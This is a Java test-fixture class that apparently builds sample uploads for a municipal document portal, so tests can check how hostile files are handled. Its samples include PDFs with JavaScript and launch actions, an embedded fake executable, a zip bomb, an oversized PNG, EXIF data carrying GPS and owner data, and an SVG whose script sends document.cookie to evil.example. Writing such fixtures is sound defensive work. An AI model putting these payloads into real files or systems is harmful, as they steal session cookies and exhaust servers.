package de.amtsportal.documents;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;

import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;

/** Files as citizens (and attackers) upload them, made in the test so that every byte is known. */
public final class SampleFiles {

	static final String DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

	private SampleFiles() {
	}

	public static byte[] pdf() {
		return pdf(document -> {
		});
	}

	/** A PDF with a link to a web page: a reader clicks it, nothing runs by itself. */
	public static byte[] pdfWithLink() {
		return pdf(document -> {
			PDAnnotationLink link = new PDAnnotationLink();
			link.setRectangle(new PDRectangle(50, 700, 200, 20));
			PDActionURI uri = new PDActionURI();
			uri.setURI("https://www.musterstadt.example/");
			link.setAction(uri);
			document.getPage(0).getAnnotations().add(link);
		});
	}

	public static byte[] pdfWithJavaScriptOnOpen() {
		return pdf(document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('Hallo');")));
	}

	public static byte[] pdfWithLaunchAction() {
		return pdf(document -> {
			PDAnnotationLink link = new PDAnnotationLink();
			link.setRectangle(new PDRectangle(50, 700, 200, 20));
			PDActionLaunch launch = new PDActionLaunch();
			launch.setFile(new PDSimpleFileSpecification(new org.apache.pdfbox.cos.COSString("C:\\Windows\\System32\\calc.exe")));
			link.setAction(launch);
			document.getPage(0).getAnnotations().add(link);
		});
	}

	public static byte[] pdfWithEmbeddedFile() {
		return pdf(document -> {
			PDComplexFileSpecification file = new PDComplexFileSpecification();
			file.setFile("rechnung.exe");
			try {
				file.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream(elfExecutable())));
			}
			catch (IOException e) {
				throw new UncheckedIOException(e);
			}
			PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
			tree.setNames(Map.of("rechnung.exe", file));
			PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
			names.setEmbeddedFiles(tree);
			document.getDocumentCatalog().setNames(names);
		});
	}

	private interface PdfChange {
		void apply(PDDocument document) throws IOException;
	}

	private static byte[] pdf(PdfChange change) {
		try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			PDPage page = new PDPage(PDRectangle.A4);
			document.addPage(page);
			try (PDPageContentStream content = new PDPageContentStream(document, page)) {
				content.beginText();
				content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
				content.newLineAtOffset(50, 750);
				content.showText("Meldebescheinigung");
				content.endText();
			}
			change.apply(document);
			// a fixed file identifier: PDFBox derives one from the clock otherwise, and tests compare the bytes
			COSArray id = new COSArray();
			id.add(new COSString("amtsportal-sample".getBytes(StandardCharsets.US_ASCII)));
			id.add(new COSString("amtsportal-sample".getBytes(StandardCharsets.US_ASCII)));
			document.getDocument().getTrailer().setItem(COSName.ID, id);
			document.save(out);
			return out.toByteArray();
		}
		catch (IOException e) {
			throw new UncheckedIOException(e);
		}
	}

	/** The start of a Linux executable (ELF, x86-64). */
	public static byte[] elfExecutable() {
		byte[] elf = new byte[256];
		byte[] header = { 0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0, 1, 0, 0, 0 };
		System.arraycopy(header, 0, elf, 0, header.length);
		return elf;
	}

	/** The start of a Windows executable: MZ header pointing to a PE header. */
	public static byte[] windowsExecutable() {
		byte[] pe = new byte[512];
		pe[0] = 'M';
		pe[1] = 'Z';
		pe[0x3c] = (byte) 0x80;
		pe[0x80] = 'P';
		pe[0x81] = 'E';
		return pe;
	}

	public static byte[] svgWithScript() {
		return """
				<?xml version="1.0" encoding="UTF-8"?>
				<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
				  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
				  <circle cx="50" cy="50" r="40" fill="red"/>
				</svg>
				""".getBytes(StandardCharsets.UTF_8);
	}

	/** A ZIP of 40 KB that unpacks to 40 MB. */
	public static byte[] zipBomb() {
		return zip(Map.of("daten.txt", new byte[40 * 1024 * 1024]));
	}

	public static byte[] docx(byte[] documentXml) {
		String contentTypes = """
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
				<Default Extension="xml" ContentType="application/xml"/>
				<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
				</Types>""";
		return zip(Map.of("[Content_Types].xml", contentTypes.getBytes(StandardCharsets.UTF_8), "word/document.xml", documentXml));
	}

	private static byte[] zip(Map<String, byte[]> entries) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out)) {
			zip.setLevel(Deflater.BEST_COMPRESSION);
			// [Content_Types].xml first, as Office writes it and as Tika's magic expects
			for (String name : entries.keySet().stream().sorted().toList()) {
				zip.putNextEntry(new ZipEntry(name));
				zip.write(entries.get(name));
				zip.closeEntry();
			}
		}
		catch (IOException e) {
			throw new UncheckedIOException(e);
		}
		return out.toByteArray();
	}

	public static BufferedImage picture(int width, int height) {
		BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
		Graphics2D graphics = image.createGraphics();
		graphics.setColor(Color.ORANGE);
		graphics.fillRect(0, 0, width, height);
		graphics.setColor(Color.BLUE);
		graphics.fillRect(0, 0, width / 2, height / 4);
		graphics.dispose();
		return image;
	}

	public static byte[] png(BufferedImage image) {
		return encode(image, "png");
	}

	public static byte[] jpeg(BufferedImage image) {
		return encode(image, "jpeg");
	}

	private static byte[] encode(BufferedImage image, String format) {
		try {
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			ImageIO.write(image, format, out);
			return out.toByteArray();
		}
		catch (IOException e) {
			throw new UncheckedIOException(e);
		}
	}

	/**
	 * A JPEG with an EXIF block as phones write it: orientation, GPS position (north/east), and the camera owner's
	 * name in the Artist tag, which must not survive.
	 */
	public static byte[] jpegWithExif(BufferedImage image, int orientation, double latitude, double longitude, String artist) {
		byte[] jpeg = jpeg(image);
		byte[] exif = exif(orientation, latitude, longitude, artist);
		int app0Length = ((jpeg[4] & 0xff) << 8) | (jpeg[5] & 0xff);
		int insertAt = 4 + app0Length;
		ByteBuffer result = ByteBuffer.allocate(jpeg.length + exif.length + 4);
		result.put(jpeg, 0, insertAt);
		result.put((byte) 0xff).put((byte) 0xe1).putShort((short) (exif.length + 2)).put(exif);
		result.put(jpeg, insertAt, jpeg.length - insertAt);
		return result.array();
	}

	/** "Exif\0\0" and a big-endian TIFF structure: IFD0 (orientation, artist, GPS pointer) and a GPS IFD. */
	private static byte[] exif(int orientation, double latitude, double longitude, String artist) {
		byte[] artistBytes = (artist + "\0").getBytes(StandardCharsets.US_ASCII);
		int ifd0 = 8;
		int ifd0Size = 2 + 3 * 12 + 4;
		int gps = ifd0 + ifd0Size;
		int gpsSize = 2 + 4 * 12 + 4;
		int rationals = gps + gpsSize;
		int artistAt = rationals + 48;
		ByteBuffer tiff = ByteBuffer.allocate(artistAt + artistBytes.length);
		tiff.put((byte) 'M').put((byte) 'M').putShort((short) 42).putInt(ifd0);
		tiff.putShort((short) 3);
		tiff.putShort((short) 0x0112).putShort((short) 3).putInt(1).putShort((short) orientation).putShort((short) 0);
		tiff.putShort((short) 0x013b).putShort((short) 2).putInt(artistBytes.length).putInt(artistAt);
		tiff.putShort((short) 0x8825).putShort((short) 4).putInt(1).putInt(gps);
		tiff.putInt(0);
		tiff.putShort((short) 4);
		tiff.putShort((short) 1).putShort((short) 2).putInt(2).put((byte) 'N').put((byte) 0).putShort((short) 0);
		tiff.putShort((short) 2).putShort((short) 5).putInt(3).putInt(rationals);
		tiff.putShort((short) 3).putShort((short) 2).putInt(2).put((byte) 'E').put((byte) 0).putShort((short) 0);
		tiff.putShort((short) 4).putShort((short) 5).putInt(3).putInt(rationals + 24);
		tiff.putInt(0);
		for (double degrees : List.of(latitude, longitude)) {
			int whole = (int) degrees;
			double minutes = (degrees - whole) * 60;
			long microSeconds = Math.round((minutes - (int) minutes) * 60 * 1_000_000);
			tiff.putInt(whole).putInt(1).putInt((int) minutes).putInt(1).putInt((int) microSeconds).putInt(1_000_000);
		}
		tiff.put(artistBytes);
		ByteBuffer exif = ByteBuffer.allocate(6 + tiff.capacity());
		exif.put("Exif\0\0".getBytes(StandardCharsets.US_ASCII)).put(tiff.array());
		return exif.array();
	}

	/** A valid PNG of a few bytes that declares a picture of width × height pixels. */
	public static byte[] pngDeclaring(int width, int height) {
		ByteArrayOutputStream png = new ByteArrayOutputStream();
		png.writeBytes(new byte[] { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n' });
		ByteBuffer header = ByteBuffer.allocate(13).putInt(width).putInt(height).put((byte) 8).put((byte) 2).put((byte) 0)
			.put((byte) 0).put((byte) 0);
		chunk(png, "IHDR", header.array());
		Deflater deflater = new Deflater();
		deflater.setInput(new byte[64]);
		deflater.finish();
		byte[] compressed = new byte[128];
		int length = deflater.deflate(compressed);
		chunk(png, "IDAT", java.util.Arrays.copyOf(compressed, length));
		chunk(png, "IEND", new byte[0]);
		return png.toByteArray();
	}

	private static void chunk(ByteArrayOutputStream png, String type, byte[] data) {
		byte[] typeBytes = type.getBytes(StandardCharsets.US_ASCII);
		CRC32 crc = new CRC32();
		crc.update(typeBytes);
		crc.update(data);
		png.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
		png.writeBytes(typeBytes);
		png.writeBytes(data);
		png.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
	}
}
